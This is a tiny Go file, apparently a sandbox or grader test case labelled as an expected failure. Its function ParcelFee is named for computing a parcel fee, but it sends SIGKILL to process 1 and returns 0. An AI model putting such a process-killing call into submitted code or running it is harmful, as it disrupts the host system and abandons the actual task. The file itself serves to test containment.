// expect: failed
// attack: kills process 1 and everything else that it may
import "syscall"

func ParcelFee(sides []int, grams int) int {
	syscall.Kill(1, syscall.SIGKILL)
	return 0
}
